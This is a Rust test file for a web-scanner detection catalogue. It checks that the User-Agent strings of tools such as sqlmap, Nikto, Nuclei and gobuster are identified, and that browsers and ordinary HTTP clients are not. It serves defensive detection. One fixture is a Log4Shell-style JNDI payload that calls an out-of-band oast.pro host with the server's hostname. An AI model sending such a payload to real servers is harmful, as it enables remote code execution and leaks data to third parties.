use super::*;

const PACKAGED: &str = include_str!("../../../../../deploy/web-scanners.toml");

fn packaged() -> Catalogue {
    Catalogue::parse(PACKAGED, "web-scanners.toml").unwrap()
}

/// Each tool's default User-Agent (seen in the lab, read in its code, or
/// documented: see the catalogue's notes) names it.
#[test]
fn the_packaged_catalogue_names_each_tool() {
    let c = packaged();
    assert!(c.len() >= 30, "{}", c.len());
    let cases = [
        ("gobuster/3.5", "gobuster", WebScanKind::WordlistScan),
        (
            "Fuzz Faster U Fool v1.1.0",
            "ffuf",
            WebScanKind::WordlistScan,
        ),
        ("Wfuzz/3.1.0", "wfuzz", WebScanKind::WordlistScan),
        (
            "feroxbuster/2.10.1",
            "feroxbuster",
            WebScanKind::WordlistScan,
        ),
        (
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
            "DirBuster",
            WebScanKind::WordlistScan,
        ),
        ("Mozilla/5.0 Jorgee", "Jorgee", WebScanKind::WordlistScan),
        (
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "sqlmap",
            WebScanKind::VulnScanner,
        ),
        ("WhatWeb/0.5.5", "WhatWeb", WebScanKind::VulnScanner),
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Nmap Scripting Engine",
            WebScanKind::VulnScanner,
        ),
        (
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "masscan",
            WebScanKind::VulnScanner,
        ),
        (
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Nikto",
            WebScanKind::VulnScanner,
        ),
        (
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Nuclei",
            WebScanKind::VulnScanner,
        ),
        (
            "${jndi:ldap://${hostName}.cq3a5b7d9e1f2g4h6j8k.oast.pro/a}",
            "interactsh (out-of-band payload)",
            WebScanKind::VulnScanner,
        ),
        (
            "Mozilla/5.0 x4f9q2.burpcollaborator.net",
            "Burp Collaborator (out-of-band payload)",
            WebScanKind::VulnScanner,
        ),
        (
            "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            "WPScan",
            WebScanKind::VulnScanner,
        ),
        ("Mozilla/5.0 zgrab/0.x", "ZGrab", WebScanKind::VulnScanner),
        (
            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix Web Vulnerability Scanner)",
            "Acunetix",
            WebScanKind::VulnScanner,
        ),
        (
            "Mozilla/5.0 [en] (X11, U; Nessus)",
            "Nessus",
            WebScanKind::VulnScanner,
        ),
        (
            "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)",
            "OpenVAS",
            WebScanKind::VulnScanner,
        ),
        (
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
            "Censys",
            WebScanKind::VulnScanner,
        ),
        ("l9explore/1.2.2", "LeakIX", WebScanKind::VulnScanner),
        ("Arachni/v1.5.1", "Arachni", WebScanKind::VulnScanner),
        ("Mozilla/5.0 SF/2.10b", "skipfish", WebScanKind::VulnScanner),
        ("w3af.org", "w3af", WebScanKind::VulnScanner),
        (
            "Wapiti-2.3.0 (wapiti.sourceforge.net)",
            "Wapiti",
            WebScanKind::VulnScanner,
        ),
    ];
    for (ua, tool, kind) in cases {
        let e = c
            .match_user_agent(ua)
            .unwrap_or_else(|| panic!("no entry for {ua:?}"));
        assert_eq!((e.tool.as_str(), e.kind), (tool, kind), "{ua}");
    }
}

/// Browsers, common HTTP clients and crawlers match no entry.
#[test]
fn browsers_and_common_clients_match_nothing() {
    let c = packaged();
    let clients = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
        "curl/7.88.1",
        "curl/8.7.1",
        "Wget/1.21.3",
        "Wget/1.21.4 (linux-gnu)",
        "python-requests/2.31.0",
        "Python-urllib/3.11",
        "python-httpx/0.27.0",
        "aiohttp/3.9.5",
        "Go-http-client/1.1",
        "Go-http-client/2.0",
        "okhttp/4.12.0",
        "Apache-HttpClient/4.5.14 (Java/17.0.10)",
        "Java/17.0.10",
        "PostmanRuntime/7.37.3",
        "axios/1.6.8",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "libwww-perl/6.72",
        "Ruby",
        "HTTPie/3.2.2",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Prometheus/2.42.0",
        "kube-probe/1.29",
        "ELB-HealthChecker/2.0",
        "Blackbox Exporter/0.24.0",
        "nginx-ssl early hints",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 SeaMonkey/2.53.18",
        "",
    ];
    for ua in clients {
        assert_eq!(
            c.match_user_agent(ua).map(|e| &e.tool),
            None,
            "{ua:?} matched"
        );
    }
}

fn sig(tool: &str, kind: WebScanKind, ua: Option<&str>, ja4: Option<&str>) -> WebSignature {
    WebSignature {
        tool: tool.into(),
        kind,
        user_agent: ua.map(Into::into),
        ja4: ja4.map(Into::into),
        note: None,
    }
}

#[test]
fn config_entries_come_first_and_ja4_matches_exactly() {
    const JA4: &str = "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6";
    let c = packaged()
        .with_overrides(&[
            sig(
                "our-gobuster",
                WebScanKind::VulnScanner,
                Some("^gobuster/3\\.5$"),
                None,
            ),
            sig("curl+openssl", WebScanKind::VulnScanner, None, Some(JA4)),
        ])
        .unwrap();
    let e = c.match_user_agent("gobuster/3.5").unwrap();
    assert_eq!(
        (e.tool.as_str(), e.kind),
        ("our-gobuster", WebScanKind::VulnScanner)
    );
    assert_eq!(c.match_user_agent("gobuster/3.6").unwrap().tool, "gobuster");
    assert_eq!(c.match_ja4(JA4).unwrap().tool, "curl+openssl");
    assert!(
        c.match_ja4("t13d3112h2_e8f1e7e78f70_b26ce05bbdd7")
            .is_none()
    );
    assert!(
        Catalogue::default()
            .match_user_agent("gobuster/3.5")
            .is_none()
    );
}

#[test]
fn errors_name_the_origin_entry_and_problem() {
    let text = "[[signature]]\ntool = \"a\"\nkind = \"vuln_scanner\"\nuser_agent = \"a\"\n\n[[signature]]\ntool = \"b\"\nkind = \"vuln_scanner\"\nuser_agent = \"b(\"\n";
    let e = Catalogue::parse(text, "/usr/share/scanwatch/web-scanners.toml").unwrap_err();
    let msg = e.to_string();
    assert!(
        msg.starts_with(
            "catalogue /usr/share/scanwatch/web-scanners.toml: entry 2 (tool \"b\"): user_agent: bad regex"
        ),
        "{msg}"
    );
    let e = Catalogue::parse(
        "[[signature]]\ntool = \"a\"\nkind = \"fuzzer\"\nuser_agent = \"a\"\n",
        "c.toml",
    )
    .unwrap_err();
    assert!(e.to_string().contains("unknown variant `fuzzer`"), "{e}");
    assert!(e.to_string().contains("line 3"), "{e}");
    let e = Catalogue::parse(
        "[[signature]]\ntool = \"a\"\nkind = \"vuln_scanner\"\n",
        "c.toml",
    )
    .unwrap_err();
    assert!(
        e.to_string()
            .contains("entry 1 (tool \"a\"): user_agent: set exactly one"),
        "{e}"
    );
    let e = Catalogue::parse(
        "[[signature]]\ntool = \"a\"\nkind = \"vuln_scanner\"\nja4 = \"t13\"\nuser_agent = \"x\"\n",
        "c.toml",
    )
    .unwrap_err();
    assert!(e.to_string().contains("set exactly one"), "{e}");
    let e = Catalogue::parse(
        "[[signature]]\ntool = \"a\"\nkind = \"vuln_scanner\"\nja4 = \"t13\"\n",
        "c.toml",
    )
    .unwrap_err();
    assert!(e.to_string().contains("is not a JA4 fingerprint"), "{e}");
    let e = Catalogue::parse("[[signatures]]\n", "c.toml").unwrap_err();
    assert!(e.to_string().contains("unknown field `signatures`"), "{e}");
    let e = packaged()
        .with_overrides(&[sig("", WebScanKind::VulnScanner, Some("x"), None)])
        .unwrap_err();
    assert!(
        e.to_string().starts_with(
            "catalogue [detection.web] signatures: entry 1 (tool \"\"): tool: must not be empty"
        ),
        "{e}"
    );
    assert!(Catalogue::parse("", "empty.toml").unwrap().is_empty());
}
